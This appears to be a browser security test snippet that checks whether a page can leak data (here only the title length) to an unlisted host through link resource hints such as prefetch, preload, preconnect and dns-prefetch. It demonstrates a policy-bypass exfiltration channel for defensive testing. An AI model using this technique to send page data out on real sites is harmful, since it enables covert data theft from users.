// Tries: send what it has to a host that the policy does not list, by hints for the network: prefetch, preload, preconnect.
(async () => {
  const to = (way) => `${CDN}/reached/hint-elsewhere/${way}?${document.title.length}`;
  for (const [rel, as] of [["prefetch", ""], ["preload", "image"], ["preload", "fetch"], ["preload", "script"], ["modulepreload", ""], ["preconnect", ""], ["dns-prefetch", ""], ["prerender", ""]]) {
    const link = document.createElement("link");
    Object.assign(link, { rel, href: to(rel + as) });
    if (as) link.as = as;
    document.documentElement.append(link);
  }
  setTimeout(() => over("hint-elsewhere"), 300);
})();
